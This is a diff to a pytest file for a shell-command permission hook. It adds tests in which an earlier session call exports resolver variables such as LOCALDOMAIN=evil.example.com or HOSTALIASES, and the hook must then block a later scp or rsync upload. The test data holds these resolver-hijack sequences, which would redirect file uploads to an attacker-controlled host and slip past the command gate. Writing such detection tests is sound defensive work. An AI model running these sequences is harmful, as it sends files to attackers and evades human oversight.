@@ -15,17 +15,22 @@ Classes, each with cases no rule was written for (ordinary and dangerous):
 4. *An installer's own prefix option into ~/.local*: `cmake --install b --prefix ~/.local`, `cargo install --root
    ~/.local`, `GOBIN=~/.local/bin go install` -- the install `make install PREFIX=~/.local` is (ordinary round 16).
 
-Every call is only decided here (in-process), never run.
+5. *A compose file's published port* on clearance's own loopback port (round 15a's open class).
+6. *A signal by a word clearance's hook's command line holds*, in a module written for later (round 15a's open class).
+7. *A resolver variable exported by an earlier call of the session* (round loose15's open case).
+
+Every call is only decided here (in-process, the real hook for sessions), never run.
 """
 
 from __future__ import annotations
 
+from pathlib import Path
 from typing import Any
 
 import pytest
 
 from .conftest import decide
-from .rounds import run
+from .rounds import HookSession, run
 
 P = "/home/ana/webapp"
 
@@ -280,3 +285,28 @@ def test_a_signal_by_the_hooks_word_is_not_allowed(example: Any) -> None:
 def test_an_ordinary_signal_by_a_program_word_is_allowed(example: Any) -> None:
     got = decide(example)
     assert got.decision == "allow", (example, got.rules, got.reason)
+
+
+# 7. a resolver variable exported by an earlier call of the session (round loose15's open case) ---------------------
+
+# (earlier calls, each allowed; the upload, and whether it must stay allowed)
+EXPORTED_RESOLVER = [
+    (["export HOSTALIASES=/tmp/h", "ssh devbox true"], "rsync -a ./ devbox:/srv/", False),
+    (["declare -x RES_OPTIONS=ndots:5", "ssh devbox true"], "scp build.tgz devbox:/srv/app/", False),
+    (["export LOCALDOMAIN=evil.example.com && cd src", "ssh devbox true"], "scp build.tgz devbox:/srv/app/", False),
+    (["ssh devbox true", "export LOCALDOMAIN=evil.example.com"], "scp build.tgz devbox:/srv/app/", False),
+    # ordinary: another variable exported, or the resolver variable unset again on the same line
+    (["export NODE_ENV=production", "ssh devbox true"], "scp build.tgz devbox:/srv/app/", True),
+    (["export LOCALDOMAIN=evil.example.com; unset LOCALDOMAIN", "ssh devbox true"], "scp build.tgz devbox:/srv/app/", True),
+    (["LOCALDOMAIN=corp.example.com host devbox", "ssh devbox true"], "scp build.tgz devbox:/srv/app/", True),
+]
+
+
+@pytest.mark.parametrize(("before", "upload", "ordinary"), EXPORTED_RESOLVER, ids=[" ; ".join(b) for b, _, _ in EXPORTED_RESOLVER])
+def test_a_resolver_variable_the_session_exported(tmp_path: Path, before: list[str], upload: str, ordinary: bool) -> None:
+    s = HookSession(tmp_path / "home" / "ana", "fix17c", extra_env={"CLEARANCE_HEADLESS": "0"})
+    s.project.mkdir(parents=True, exist_ok=True)
+    for call in before:
+        assert s.bash(call) == "allow", call
+    got = s.bash(upload)
+    assert (got == "allow") == ordinary, (upload, got)
